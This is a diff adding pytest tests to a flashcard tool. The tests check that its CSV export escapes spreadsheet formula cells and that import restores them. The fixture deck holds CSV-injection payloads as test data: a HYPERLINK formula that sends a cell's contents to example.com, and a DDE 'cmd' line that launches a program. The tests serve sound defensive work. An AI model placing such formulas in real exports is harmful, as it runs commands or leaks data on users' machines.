@@ -641,6 +641,80 @@ def test_add_on_a_dumb_terminal_uses_numbered_lists(deck_copy: Path,
     assert card is not None and card.source == "tass-jan19-borodavkin"
 
 
+FORMULAS = """\
+id: formulas
+title: Formulas
+cards:
+  - id: link
+    question: '=HYPERLINK("http://example.com/?"&A1, "Click")'
+    answer: '@SUM(A1:A2)'
+    accept: ['+1+1', plain]
+  - id: cmd
+    question: "-2+3+cmd|' /C calc'!A0"
+    answer: "'=quoted, not a formula"
+  - id: cold
+    question: How cold was it, in degrees?
+    answer: -5
+    tolerance: 0
+"""
+
+
+def exported_cells(deck: Path, *options: str) -> list[dict[str, str]]:
+    r = run("export", str(deck), "-f", "csv", *options)
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    return list(csv.DictReader(r.stdout.splitlines()))  # type: ignore[attr-defined]
+
+
+def test_export_makes_cells_a_spreadsheet_would_run_text_and_import_undoes_it(
+        tmp_path: Path) -> None:
+    """A deck author's '=HYPERLINK(...)' or '-2+3+cmd|...' in a CSV runs as
+    a formula when the file is opened in a spreadsheet: such a cell gets a
+    ' before it (OWASP's advice), a plain number such as -5 does not, and a
+    cell that really starts with a quote gets one more, so that quiz import
+    gives back every cell as it was."""
+    deck = tmp_path / "formulas.yaml"
+    deck.write_text(FORMULAS)
+    rows = exported_cells(deck)
+    assert [(r["question"], r["answer"], r["accept"]) for r in rows] == [
+        ("'=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")", "'@SUM(A1:A2)", "'+1+1 | plain"),
+        ("'-2+3+cmd|' /C calc'!A0", "''=quoted, not a formula", ""),
+        ("How cold was it, in degrees?", "-5", "")]
+    table = tmp_path / "formulas.csv"
+    assert run("export", str(deck), "-o", str(table)).exit_code == 0  # type: ignore
+    back = tmp_path / "back.yaml"
+    r = run("import", str(table), "-o", str(back))
+    assert r.exit_code == 0, r.output  # type: ignore[attr-defined]
+    fields = ("id", "type", "question", "answer", "accept", "tolerance")
+    assert [[getattr(c, f) for f in fields] for c in load_deck(back).cards] == [
+        [getattr(c, f) for f in fields] for c in load_deck(deck).cards]
+
+
+def test_export_raw_cells_writes_them_as_they_are(tmp_path: Path) -> None:
+    deck = tmp_path / "formulas.yaml"
+    deck.write_text(FORMULAS)
+    rows = exported_cells(deck, "--raw-cells")
+    assert [(r["question"], r["answer"], r["accept"]) for r in rows] == [
+        ('=HYPERLINK("http://example.com/?"&A1, "Click")', "@SUM(A1:A2)", "+1+1 | plain"),
+        ("-2+3+cmd|' /C calc'!A0", "'=quoted, not a formula", ""),
+        ("How cold was it, in degrees?", "-5", "")]
+
+
+def test_import_takes_the_formula_quote_off_only_in_quiz_own_layout(tmp_path: Path) -> None:
+    """quiz's own CSV (a header row naming question and answer) comes from
+    quiz export, which quotes formula cells; a two-column file or Anki's
+    export is read as written, so "'-able" there keeps its quote."""
+    ours = tmp_path / "ours.csv"
+    ours.write_text("question,answer\n'=1+1 in a formula?,'@2\n'Tis the season?,''-x\n")
+    assert run("import", str(ours), "-o", str(tmp_path / "ours.yaml")).exit_code == 0  # type: ignore
+    assert [(c.question, c.answer) for c in load_deck(tmp_path / "ours.yaml").cards] == [
+        ("=1+1 in a formula?", "@2"), ("'Tis the season?", "'-x")]
+    theirs = tmp_path / "theirs.csv"
+    theirs.write_text("'-able,a suffix: capable of\n'=x,'+y\n")
+    assert run("import", str(theirs), "-o", str(tmp_path / "theirs.yaml")).exit_code == 0  # type: ignore
+    assert [(c.question, c.answer) for c in load_deck(tmp_path / "theirs.yaml").cards] == [
+        ("'-able", "a suffix: capable of"), ("'=x", "'+y")]
+
+
 @pytest.mark.parametrize(("name", "title", "file"), [
     ("na\udcefve", "Na\ufffdve", "nave.yaml"),  # a byte the system could not decode
     ("na\x1bve", "Na Ve", "na-ve.yaml"),
